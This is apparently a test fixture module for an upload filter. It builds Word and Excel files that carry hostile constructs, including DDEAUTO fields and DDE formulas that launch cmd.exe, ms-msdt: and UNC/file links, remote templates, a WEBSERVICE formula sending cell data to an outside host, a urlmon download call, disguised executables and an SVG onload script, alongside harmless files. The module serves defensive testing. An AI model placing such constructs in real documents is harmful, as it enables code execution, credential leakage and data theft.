"""Word and Excel files that reach out, or hold what runs; and the honest ones beside them."""

from dataclasses import dataclass, field

from PIL import Image as Picture

from tests.helpers.uploads import EXCEL, OFFICE, WORD, encoded, office, relationship, relationships

UNC = "\\\\203.0.113.5\\share\\a"
PROGRAM = b"MZ\x90\0" + b"\0" * 60
PNG = encoded(Picture.new("RGB", (4, 4)), "PNG")
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
WORD_RELS = "word/_rels/document.xml.rels"
SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"


@dataclass(frozen=True)
class Case:
    """What is put into an otherwise harmless file, and what the refusal has to say."""

    words: str
    parts: dict[str, str | bytes]
    kind: str = WORD
    types: dict[str, str] = field(default_factory=dict)  # of further parts, or of endings


def document(content: str) -> dict[str, str | bytes]:
    return {
        "word/document.xml": f"<w:document {W} {VML} {R}><w:body>{content}</w:body></w:document>"
    }


def run(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def with_field(*pieces: str) -> dict[str, str | bytes]:
    """A field whose instruction is split over as many runs, and over paragraphs."""
    code = "</w:p><w:p>".join(map(run, pieces))
    return document(f"<w:p>{mark('begin')}{code}{mark('separate')}{mark('end')}</w:p>")


def simple_field(instruction: str) -> dict[str, str | bytes]:
    return document(f'<w:p><w:fldSimple w:instr="{instruction}"/></w:p>')


def link(target: str, kind: str = "hyperlink", *, mode: str = "External") -> str:
    return relationships(relationship(kind, target, mode))


def word_link(target: str) -> Case:
    return Case("本文", {WORD_RELS: link(target)})


def sheet(formula: str) -> dict[str, str | bytes]:
    return {
        "xl/worksheets/sheet1.xml": f'<worksheet><sheetData><row r="3"><c r="B3"><f>{formula}</f>'
        "<v>0</v></c></row></sheetData></worksheet>"
    }


def formula(text: str, words: str = "シート「予算」のB3") -> Case:
    return Case(words, sheet(text), EXCEL)


def part(name: str, words: str, content_type: str, content: str | bytes = "<a/>") -> Case:
    kind = EXCEL if name.startswith("xl/") else WORD
    return Case(words, {name: content}, kind, {f"/{name}": content_type})


def program(name: str, content_type: str = "image/png") -> Case:
    return Case(
        name, {f"word/media/{name}": PROGRAM}, types={name.rpartition(".")[2]: content_type}
    )


SHEET = f"{OFFICE}spreadsheetml."
CASES: dict[str, Case] = {
    # Links
    "ms-msdt: link": word_link("ms-msdt:/id PCWDiagnostic"),
    "file: link": word_link("file://203.0.113.5/share/a"),
    "javascript: link": word_link("javascript:alert(1)"),
    "scheme in capitals": word_link("FILE:///C:/Windows/System32/calc.exe"),
    "percent-encoded scheme": word_link("%66ile://203.0.113.5/a"),
    "white space before the scheme": word_link("&#9;file://203.0.113.5/a"),
    "line in the scheme": word_link("java&#10;script:alert(1)"),
    "UNC link": word_link(UNC),
    "link without a scheme": word_link("//203.0.113.5/share/a"),
    "relative link": word_link("../a.exe"),
    "link that says it is inside": Case("本文", {WORD_RELS: link(UNC, mode="Internal")}),
    "link of a sheet": Case("シート「予算」", {SHEET_RELS: link("search-ms:query=a")}, EXCEL),
    "link of a drawn shape": Case(
        "本文", document('<w:pict><v:rect href="file://203.0.113.5/a"/></w:pict>')
    ),
    "picture of another place in a shape": Case(
        "本文", document('<v:imagedata src="https://example.jp/a.png"/>')
    ),
    # Relationships
    "template": Case(
        "ひな形", {"word/_rels/settings.xml.rels": link("https://example.jp/a", "attachedTemplate")}
    ),
    "template that says it is inside": Case(
        "ひな形",
        {"word/_rels/settings.xml.rels": link(UNC, "attachedTemplate", mode="Internal")},
    ),
    "document of another format": Case(
        "埋め込まれた", {WORD_RELS: link("a.mht", "aFChunk", mode="")}
    ),
    "subordinate document": Case("外部", {WORD_RELS: link(UNC, "subDocument")}),
    "frame": Case("外部", {"word/_rels/webSettings.xml.rels": link(UNC, "frame")}),
    "linked object": Case("埋め込まれた", {WORD_RELS: link(UNC, "oleObject")}),
    "sheet in another place": Case(
        "外部", {"xl/_rels/workbook.xml.rels": link(UNC, "worksheet")}, EXCEL
    ),
    "header inside another computer": Case(
        "外部", {WORD_RELS: link("//203.0.113.5/a", "header", mode="")}
    ),
    "relationship of an unknown kind": Case(
        "登録できる文書にない部品", {WORD_RELS: link("a", "sing")}
    ),
    # Fields
    "DDEAUTO": Case("DDEAUTO", with_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
    "DDE in lower case": Case("DDE", with_field("dde excel a")),
    "DDEAUTO in pieces": Case("DDEAUTO", with_field("DD", "EAU", "TO excel a")),
    "DDEAUTO in nested elements": Case(
        "DDEAUTO",
        document(
            mark("begin") + run("DD<w:t>E<w:instrText>AU</w:instrText></w:t>TO a") + mark("end")
        ),
    ),
    "DDEAUTO in plain text": Case(
        "DDEAUTO", document(f"{mark('begin')}<w:r><w:t>DDEAUTO excel a</w:t></w:r>{mark('end')}")
    ),
    "DDEAUTO without an end": Case("DDEAUTO", document(mark("begin") + run("DDEAUTO excel a"))),
    "DDEAUTO inside another field": Case(
        "DDEAUTO",
        document(mark("begin") + run("IF ") + mark("begin") + run("DDEAUTO a b") + mark("end") * 2),
    ),
    "instruction of nested fields": Case(
        "組み立てた",
        document(mark("begin") * 2 + run("SET a") + mark("end") + run(" excel a") + mark("end")),
    ),
    "INCLUDEPICTURE": Case("INCLUDEPICTURE", simple_field("INCLUDEPICTURE https://example.jp/a")),
    "INCLUDETEXT": Case("INCLUDETEXT", simple_field(f" includetext {UNC}")),
    "LINK": Case("LINK", simple_field("LINK Excel.Sheet.12 C:\\\\a.xlsx")),
    "field of another prefix": Case(
        "DATABASE",
        {
            "word/document.xml": f"<x:p {W.replace('w=', 'x=')}>"
            '<x:fldSimple x:instr="DATABASE"/></x:p>'
        },
    ),
    "HYPERLINK to a file": Case("file://203", with_field(' HYPERLINK "file://203.0.113.5/a" ')),
    "HYPERLINK to a UNC path": Case("203.0.113.5", with_field(f" HYPERLINK {UNC} \\o x ")),
    "HYPERLINK of nested fields": Case(
        "組み立てた",
        document(
            mark("begin") + run("HYPERLINK ") + mark("begin") + run("REF a") + mark("end") * 2
        ),
    ),
    "field in a header": Case(
        "ヘッダー",
        {"word/header1.xml": f'<w:hdr {W}><w:fldSimple w:instr="DDE a b"/></w:hdr>'},
        types={"/word/header1.xml": f"{OFFICE}wordprocessingml.header+xml"},
    ),
    "mail merge": Case(
        "差し込み印刷",
        {"word/settings.xml": f"<w:settings {W}><w:mailMerge/></w:settings>"},
        types={"/word/settings.xml": f"{OFFICE}wordprocessingml.settings+xml"},
    ),
    # Parts
    "program": program("a.exe"),
    "program called a picture": program("image1.png"),
    "shortcut": program("a.lnk"),
    "program by its default type": program("b.exe", "application/x-msdownload"),
    "picture with a script": part(
        "word/media/a.svg",
        "SVG",
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ),
    "menu": Case("メニュー", {"customUI/customUI14.xml": '<customUI onLoad="a"/>'}),
    "macros": part("word/vbaProject.bin", "マクロ", "application/vnd.ms-office.vbaProject"),
    "macro sheet": part(
        "xl/macrosheets/sheet1.xml", "マクロ", "application/vnd.ms-excel.macrosheet+xml"
    ),
    "dialogue sheet": part("xl/dialogsheets/sheet1.xml", "マクロ", f"{SHEET}dialogsheet+xml"),
    "DDE link": part(
        "xl/externalLinks/externalLink1.xml",
        "ほかのブックやプログラム",
        f"{SHEET}externalLink+xml",
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    ),
    "web query that refreshes": part(
        "xl/connections.xml",
        "外部のデータ",
        f"{SHEET}connections+xml",
        '<connections><connection refreshOnLoad="1"><webPr url="https://a"/></connection></connections>',
    ),
    "query table": part("xl/queryTables/queryTable1.xml", "外部のデータ", f"{SHEET}queryTable+xml"),
    "add-in": part(
        "word/webextensions/taskpanes.xml",
        "アドイン",
        "application/vnd.ms-office.webextensiontaskpanes+xml",
    ),
    "object": part("word/embeddings/oleObject1.bin", "埋め込まれた", f"{OFFICE}oleObject"),
    # Formulas
    "DDE formula": formula("cmd|'/c calc'!A0"),
    "DDE formula in quotes": formula("'cmd|/c calc'!A0"),
    "WEBSERVICE": formula('_xlfn.WEBSERVICE("https://example.jp/?"&amp;A1)'),
    "webservice in an argument": formula('IF(A1,1+webservice("https://example.jp/"),0)'),
    "WEBSERVICE as a name of the workbook": Case(
        "WEBSERVICE",
        {
            **sheet('WEBSERVICE("https://example.jp/")'),
            "xl/workbook.xml": "<workbook><sheets><sheet name='WEBSERVICE'/></sheets>"
            "<definedName name='WEBSERVICE'>_xlfn.LAMBDA(1)</definedName></workbook>",
        },
        EXCEL,
    ),
    "RTD": formula('RTD("a",,"b")'),
    "CALL": formula('CALL("urlmon","URLDownloadToFileA")'),
    "picture from the web": formula('_xlfn.IMAGE("https://example.jp/a.png")'),
    "function of an add-in": formula("_xll.Run(A1)"),
    "HYPERLINK of a file": formula('HYPERLINK("file://203.0.113.5/a","b")'),
    "HYPERLINK put together": formula('HYPERLINK("fi"&amp;"le://203.0.113.5/a","b")'),
    "workbook of another computer": formula(f"'{UNC}\\[b.xlsx]Sheet1'!A1"),
    "workbook by its number": formula("[1]Sheet1!A1+1"),
    "formula in a name": Case(
        "ブックの設定",
        {"xl/workbook.xml": "<workbook><definedName name='a'>cmd|'a'!b</definedName></workbook>"},
        EXCEL,
    ),
}


def hostile_office(name: str) -> bytes:
    case = CASES[name]
    return office(case.kind, case.types, **case.parts)


def embedded_office() -> bytes:
    """A document whose chart has a table that reaches out."""
    inner = hostile_office("WEBSERVICE")
    name = "word/embeddings/table.xlsx"
    types = {f"/{name}": f"{OFFICE}spreadsheetml.sheet"}
    return office(WORD, types, **{name: inner})


FIELDS = (
    ' HYPERLINK "https://example.jp/?a=b" \\t "_blank" ',
    ' HYPERLINK \\l "_Toc1" \\o "目次" ',
    "PAGE \\* MERGEFORMAT",
    ' TOC \\o "1-3" \\h \\z \\u ',
    " PAGEREF _Toc1 \\h",
    'EQ \\* jc2 \\* "Font:ＭＳ 明朝" \\* hps10 \\o\\ad(\\s\\up 9(そう),総)',
    ' DATE \\@ "ggge年M月d日" ',
    "= 1 + 2",
    "STYLEREF 1",
)
FORMULAS = (
    "SUM(B2:B5)",
    "_xlfn.XLOOKUP(A1,表1[組織],表1[[#This Row],[予算(千円)]])",
    "IFERROR(VLOOKUP(A1,'令和6年度|案'!A:B,2,FALSE),\"|[1]\")",
    'HYPERLINK("https://example.jp/?q="&amp;A1,"探す")',
    'HYPERLINK("#予算!A1")',
    "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x*2),_xlpm.f(A1))",
    "税込(A1)+[0]!税率",
    "LOG10(B4) (B1:B5)",
)


def harmless_word() -> bytes:
    code = "".join(mark("begin") + run(each) + mark("separate") + mark("end") for each in FIELDS)
    links = ("https://example.jp/", "HTTPS://EXAMPLE.JP/", "mailto:a@example.jp", "#第1章")
    parts: dict[str, str | bytes] = {
        WORD_RELS: relationships(
            *(relationship("hyperlink", target, "External") for target in links),
            relationship("image", "media/image1.png", ""),
            relationship("customXml", "../customXml/item1.xml", ""),
        ),
        "word/media/image1.png": PNG,
        "word/printerSettings1.bin": b"\0",
        "customXml/item1.xml": '<a href="anything"/>',
        **document(f'<w:p>{code}</w:p><v:rect href="https://example.jp/"/>'),
    }
    types = {"png": "image/png", "bin": f"{OFFICE}wordprocessingml.printerSettings"}
    return office(WORD, types, **parts)


def harmless_excel() -> bytes:
    cells = "".join(f'<c r="B{n}"><f>{each}</f></c>' for n, each in enumerate(FORMULAS, 1))
    name = "xl/worksheets/sheet1.xml"
    name_of_formula = "<definedName name='税込'>_xlfn.LAMBDA(_xlpm.x,_xlpm.x*1.1)</definedName>"
    parts: dict[str, str | bytes] = {
        name: f"<worksheet><row>{cells}</row></worksheet>",
        "xl/workbook.xml": f"<workbook><sheet name='令和6年度|案'/>{name_of_formula}</workbook>",
        "xl/printerSettings/printerSettings1.bin": b"\0",
    }
    return office(EXCEL, {"bin": f"{SHEET}printerSettings"}, **parts)
